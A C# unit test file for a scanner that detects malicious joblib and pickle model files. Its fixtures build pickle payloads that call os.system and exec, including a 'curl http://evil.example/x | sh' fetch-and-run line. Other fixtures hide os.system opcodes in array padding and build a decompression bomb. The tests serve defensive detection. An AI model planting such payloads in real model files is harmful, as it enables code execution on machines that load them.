using System.Numerics;
using AiCtiPortal.Engine.Artifacts;
using AiCtiPortal.Engine.Tests.Artifacts.Builders;
using static AiCtiPortal.Engine.Artifacts.FindingCodes;

namespace AiCtiPortal.Engine.Tests.Artifacts;

public sealed class JoblibAnalysisTests
{
    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void Benign_joblib_with_float_arrays_has_no_findings(bool aligned)
    {
        var report = Scans.Run(JoblibBuilder.BenignModel(aligned), "model.joblib");

        Assert.Equal(ArtifactFormat.Joblib, report.Format);
        Scans.Clean(report);
        Assert.Contains(report.Notes, n => n.Contains("2 array(s) of raw data", StringComparison.Ordinal));
    }

    [Fact]
    public void Protocol_4_frames_committed_before_each_array_are_read_as_joblib_writes_them()
    {
        var head = new PickleBuilder().EmptyDict().Memoize().Mark().Unicode("coef").Wrapper("f8", [2]).ToArray();
        var tail = new PickleBuilder().Unicode("n_iter").Int(3).SetItems().Stop().ToArray();
        var p = new PickleBuilder().Proto(4).Frame(head.Length).Raw(head).ArrayData(JoblibBuilder.Floats(2)).Frame(tail.Length).Raw(tail);

        var report = Scans.Run(p.ToArray(), "model.joblib");

        Assert.Equal(ArtifactFormat.Joblib, report.Format);
        Scans.Clean(report);
    }

    [Fact]
    public void Old_sklearn_externals_joblib_wrapper_is_read_the_same_way()
    {
        var p = new PickleBuilder().Proto(3).EmptyList().Mark()
            .Wrapper("i8", [4], aligned: false, module: "sklearn.externals.joblib.numpy_pickle").ArrayData(new byte[32], aligned: false)
            .Appends().Stop();

        var report = Scans.Run(p.ToArray());

        Assert.Equal(ArtifactFormat.Joblib, report.Format);
        Scans.Clean(report);
    }

    [Fact]
    public void Reduce_after_interleaved_arrays_is_found_at_its_offset()
    {
        var p = new PickleBuilder().Proto(4).EmptyDict().Mark()
            .Unicode("coef").Wrapper("f8", [16, 4]).ArrayData(JoblibBuilder.Floats(64))
            .Unicode("bias").Wrapper("f4", [4]).ArrayData(new byte[16])
            .Unicode("hook");
        long globalAt = p.Length;
        p.Global("os", "system").Unicode("id").Tuple1().Reduce().SetItems().Stop();

        var report = Scans.Run(p.ToArray(), "model.joblib");

        Assert.Equal(ScanVerdict.Malicious, report.Verdict);
        var finding = Scans.Single(report, PickleDeniedGlobal);
        Assert.Equal(globalAt, finding.Location.Offset);
        Assert.Contains(report.PickleCalls, c => c.Kind == "REDUCE" && c.Callable == "os.system" && c.Offset == globalAt + 16);
        Scans.Lacks(report, PickleMalformed);
    }

    [Fact]
    public void Object_array_carrying_a_malicious_pickle_is_analysed_as_a_pickle()
    {
        var p = new PickleBuilder().Proto(4).EmptyList().Mark().Wrapper("O8", [2]);
        long innerAt = p.Length;
        p.Raw(PickleBuilder.CallWithString("os", "system", "curl http://evil.example/x | sh"))
            .Wrapper("f8", [2]).ArrayData(new byte[16])
            .Appends().Stop();

        var report = Scans.Run(p.ToArray(), "model.joblib");

        Assert.Equal(innerAt + 2, Scans.Single(report, PickleDeniedGlobal).Location.Offset);
        Scans.Has(report, StringUrl);
        Scans.Lacks(report, PickleMalformed);
        Scans.Lacks(report, PickleTrailingData);
    }

    [Fact]
    public void Benign_object_array_pickle_gives_no_findings()
    {
        var strings = new PickleBuilder().Proto(2).EmptyList().Mark().Unicode("setosa").Unicode("virginica").Appends().Stop().ToArray();
        var p = new PickleBuilder().Proto(4).EmptyDict().Mark().Unicode("classes_").Wrapper("O8", [2]).Raw(strings).SetItems().Stop();

        Scans.Clean(Scans.Run(p.ToArray()));
    }

    [Fact]
    public void Truncated_array_data_is_a_finding()
    {
        var p = new PickleBuilder().Proto(4).EmptyList().Wrapper("f8", [1000]).ArrayData(new byte[100]);

        var report = Scans.Run(p.ToArray(), "model.joblib");

        Assert.Equal(ScanVerdict.Suspicious, report.Verdict);
        Assert.Contains("8000 bytes", Scans.Single(report, JoblibMalformed).Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public void Enormous_shape_claims_are_findings_without_allocation()
    {
        var huge = BigInteger.Parse("9000000000000000000", System.Globalization.CultureInfo.InvariantCulture);
        var p = new PickleBuilder().Proto(4).EmptyList().Wrapper("c16", [huge, huge, huge]).ArrayData(new byte[64]).Stop();

        var before = GC.GetAllocatedBytesForCurrentThread();
        var report = Scans.Run(p.ToArray(), "model.joblib");

        Assert.True(GC.GetAllocatedBytesForCurrentThread() - before < 64L << 20);
        Scans.Has(report, JoblibMalformed, Severity.Medium);
    }

    [Fact]
    public void Negative_dimension_or_unknown_dtype_stops_the_reading_with_a_finding()
    {
        var negative = new PickleBuilder().Proto(4).Wrapper("f8", [-1]).Stop().ToArray();
        var unknown = new PickleBuilder().Proto(4).Wrapper("T16", [2]).Stop().ToArray();

        Assert.Contains("non-negative", Scans.Single(Scans.Run(negative), JoblibMalformed).Evidence, StringComparison.Ordinal);
        Assert.Contains("item size", Scans.Single(Scans.Run(unknown), JoblibMalformed).Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public void Payload_disguised_as_array_data_is_found_for_plain_pickle_readers()
    {
        // joblib.load skips the "array"; pickle.load runs it: the padding-length byte is 'c' (GLOBAL), so the 99
        // "padding" bytes joblib skips spell the rest of GLOBAL os.system for a plain reader.
        var p = new PickleBuilder().Proto(4).EmptyList().Wrapper("u1", [4]);
        long arrayAt = p.Length;
        byte[] global = "cos\nsystem\n"u8.ToArray();
        byte[] file = [.. p.ToArray(), .. global, .. Enumerable.Repeat((byte)'N', 99 - (global.Length - 1)), 1, 2, 3, 4, (byte)'.'];

        var report = Scans.Run(file, "model.joblib");

        var finding = Scans.Single(report, JoblibHiddenOpcodes);
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Equal(arrayAt, finding.Location.Offset);
    }

    [Fact]
    public void Array_data_inside_a_pickle_frame_is_malicious()
    {
        var body = new PickleBuilder().EmptyList().Wrapper("u1", [4]).ToArray();
        var p = new PickleBuilder().Proto(4).Frame(body.Length + 2).Raw(body).Raw(0x30, 0x2e).ArrayData(new byte[4]).Stop();

        var report = Scans.Run(p.ToArray());

        Scans.Has(report, JoblibMalformed, Severity.High);
    }

    [Theory]
    [InlineData("zlib")]
    [InlineData("gzip")]
    [InlineData("zfile")]
    public void Compressed_joblib_files_are_decompressed_and_analysed(string compressor)
    {
        Func<byte[], byte[]> compress = compressor switch
        {
            "zlib" => JoblibBuilder.Zlib,
            "gzip" => JoblibBuilder.Gzip,
            _ => JoblibBuilder.ZFile,
        };
        var malicious = new PickleBuilder().Proto(4).EmptyList().Mark().Wrapper("f8", [3]).ArrayData(JoblibBuilder.Floats(3));
        long globalAt = malicious.Length;
        malicious.Global("builtins", "exec").Unicode("import os").Tuple1().Reduce().Appends().Stop();

        var benign = Scans.Run(compress(JoblibBuilder.BenignModel()), "model.joblib");
        var bad = Scans.Run(compress(malicious.ToArray()), "model.joblib");

        Assert.Equal(ArtifactFormat.Joblib, benign.Format);
        Scans.Clean(benign);
        Assert.Equal(ArtifactFormat.Joblib, bad.Format);
        Assert.Equal(ScanVerdict.Malicious, bad.Verdict);
        var finding = Scans.Single(bad, PickleDeniedGlobal);
        Assert.Equal(compressor, finding.Location.Member);
        Assert.Equal(globalAt, finding.Location.Offset);
    }

    [Fact]
    public void Compressed_stream_inside_a_compressed_stream_is_analysed_too()
    {
        var report = Scans.Run(JoblibBuilder.Gzip(JoblibBuilder.Zlib(PickleBuilder.CallWithString("os", "system", "id"))));

        Assert.Equal(ArtifactFormat.Joblib, report.Format);
        Assert.Equal("gzip!zlib", Scans.Single(report, PickleDeniedGlobal).Location.Member);
    }

    [Fact]
    public void Decompression_bomb_stops_at_the_limit_and_is_reported()
    {
        byte[] bomb = JoblibBuilder.Zlib(new byte[8 << 20]);
        var options = Scans.Fast with { MaxDecompressedBytes = 2 << 20 };

        var before = GC.GetAllocatedBytesForCurrentThread();
        var report = Scans.Run(bomb, "model.joblib", options);

        Assert.True(GC.GetAllocatedBytesForCurrentThread() - before < 64L << 20);
        Scans.Has(report, DecompressionLimit, Severity.High);
        Assert.Equal(ScanVerdict.Malicious, report.Verdict);
    }

    [Fact]
    public void Extreme_compression_ratio_is_reported()
    {
        var p = new PickleBuilder().Proto(4).EmptyList().Wrapper("f8", [1 << 18]).ArrayData(new byte[8 << 18]).Stop();

        var report = Scans.Run(JoblibBuilder.Zlib(p.ToArray()), "model.joblib");

        Scans.Has(report, DecompressionRatio, Severity.Medium);
        Scans.Lacks(report, DecompressionLimit);
    }

    [Fact]
    public void Corrupt_compressed_stream_is_a_finding()
    {
        byte[] z = JoblibBuilder.Zlib(JoblibBuilder.BenignModel());
        byte[] cut = [.. z[..(z.Length / 2)], .. new byte[] { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff }];

        var report = Scans.Run(cut, "model.joblib");

        Assert.NotEqual(ScanVerdict.NoFindings, report.Verdict);
        Assert.Contains(report.Findings, f => f.Code is DecompressionCorrupt or PickleMalformed or JoblibMalformed);
    }

    [Theory]
    [InlineData("bz2", new byte[] { 0x42, 0x5a, 0x68, 0x39, 0x31, 0x41, 0x59, 0x26, 0x53, 0x59, 1, 2 })]
    [InlineData("xz", new byte[] { 0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00, 0x00, 0x04, 0xe6, 0xd6, 0xb4, 0x46 })]
    [InlineData("lzma", new byte[] { 0x5d, 0x00, 0x00, 0x40, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff })]
    [InlineData("lz4", new byte[] { 0x04, 0x22, 0x4d, 0x18, 0x64, 0x40, 0xa7, 0x11, 0x00, 0x00, 0x00, 0x80 })]
    public void Compressors_without_a_decoder_are_unsupported_never_clean(string compressor, byte[] head)
    {
        var report = Scans.Run([.. head, .. new byte[64]], "model.joblib");

        Assert.Equal(ArtifactFormat.Joblib, report.Format);
        Assert.Equal(ScanVerdict.Unsupported, report.Verdict);
        var finding = Scans.Single(report, FormatUnsupported);
        Assert.Contains(compressor, finding.Title, StringComparison.Ordinal);
    }

    [Fact]
    public void Compressed_formats_are_detected_by_content()
    {
        byte[] model = JoblibBuilder.BenignModel();

        Assert.Equal(ArtifactFormat.Joblib, FormatDetector.Detect(new MemoryStream(JoblibBuilder.Zlib(model))));
        Assert.Equal(ArtifactFormat.Joblib, FormatDetector.Detect(new MemoryStream(JoblibBuilder.Gzip(model))));
        Assert.Equal(ArtifactFormat.Joblib, FormatDetector.Detect(new MemoryStream(JoblibBuilder.ZFile(model))));
        Assert.Equal(ArtifactFormat.Pickle, FormatDetector.Detect(new MemoryStream(model)));
    }
}
